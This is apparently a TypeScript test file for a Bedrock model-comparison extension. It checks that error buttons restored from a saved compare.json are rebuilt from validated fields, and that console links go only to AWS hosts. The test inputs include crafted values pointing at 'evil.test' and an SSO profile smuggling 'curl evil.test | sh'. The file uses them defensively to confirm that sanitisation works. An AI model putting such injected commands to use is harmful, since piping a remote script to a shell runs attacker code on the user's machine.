// A saved comparison (compare.json, or the webview's state) is read back after a reload; its error buttons must be
// rebuilt from checked fields, never taken as saved: a crafted region would otherwise open a link to another host.
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { test } from 'node:test';
import { CompareSession } from '../../../src/compare/compareSession';
import { CompareStateFile } from '../../../src/compare/compareStateFile';
import type { CompareState } from '../../../src/compare/protocol';
import { modelAccessUrl } from '../../../src/service/regions';

function savedWithError(error: Record<string, unknown>): CompareState {
  return {
    prompt: 'p',
    columns: [{ id: 'c1', model: 'us.amazon.nova-lite-v1:0', apiStyle: 'converse-stream', family: 'runtime', label: 'l', modelName: 'm', apiStyleLabel: 's', streaming: false, result: { text: '', metrics: { totalMs: 1 }, error: error as never } }],
  };
}

function restore(state: CompareState) {
  // the way the panel gets it: written to the state file, read back, handed to a new session
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'compare-restore-'));
  fs.writeFileSync(path.join(dir, 'compare.json'), JSON.stringify(state));
  const read = CompareStateFile.in(dir).read();
  assert.ok(read, 'the file matches the protocol');
  const session = new CompareSession({ service: { stream: () => { throw new Error('no requests'); }, supports: () => true }, post: () => undefined, errorView: () => { throw new Error('unused'); } }, read);
  return session.state().columns[0].result?.error;
}

test('a crafted request-access region does not survive a restore: no console link to another host', () => {
  const error = restore(savedWithError({ message: 'Access denied.', retryable: false, action: { kind: 'request-access', region: 'evil.test/#' }, actionLabel: 'Request Model Access' }));
  assert.equal(error?.message, 'Access denied.');
  assert.notEqual(error?.action?.kind, 'request-access');
  assert.deepEqual(error?.action, { kind: 'choose-region' });
  assert.equal(error?.actionLabel, 'Choose Region');
});

test('a valid action comes back as itself, with only its own fields and the label the extension gives it', () => {
  const error = restore(savedWithError({ message: 'm', retryable: false, action: { kind: 'request-access', region: 'eu-west-1', url: 'https://evil.test' }, actionLabel: 'Click here' }));
  assert.deepEqual(error, { message: 'm', retryable: false, action: { kind: 'request-access', region: 'eu-west-1' }, actionLabel: 'Request Model Access' });
});

test('unknown kinds, odd profiles and extra fields are dropped', () => {
  assert.deepEqual(restore(savedWithError({ message: 'm', retryable: true, action: { kind: 'open-url', url: 'https://evil.test' }, actionLabel: 'Open' })), { message: 'm', retryable: true });
  assert.deepEqual(restore(savedWithError({ message: 'm', retryable: false, action: { kind: 'sso-login', profile: 'x; curl evil.test | sh' } }))?.action, { kind: 'sign-in' });
  assert.deepEqual(restore(savedWithError({ message: 'm', retryable: false, action: { kind: 'sso-login', profile: 'dev-admin' } }))?.action, { kind: 'sso-login', profile: 'dev-admin' });
  assert.deepEqual(restore(savedWithError({ message: 'm', retryable: true, action: { kind: 'retry', extra: 1 } }))?.action, { kind: 'retry' });
});

test('the console link is built for AWS regions only, in the region’s own partition', () => {
  assert.equal(modelAccessUrl('evil.test/#'), undefined);
  assert.equal(modelAccessUrl('x@evil.test'), undefined);
  assert.equal(modelAccessUrl('eu-west-1'), 'https://eu-west-1.console.aws.amazon.com/bedrock/home?region=eu-west-1#/modelaccess');
  assert.equal(new URL(modelAccessUrl('us-gov-west-1')!).host, 'console.amazonaws-us-gov.com');
  assert.equal(new URL(modelAccessUrl('cn-north-1')!).host, 'console.amazonaws.cn');
});
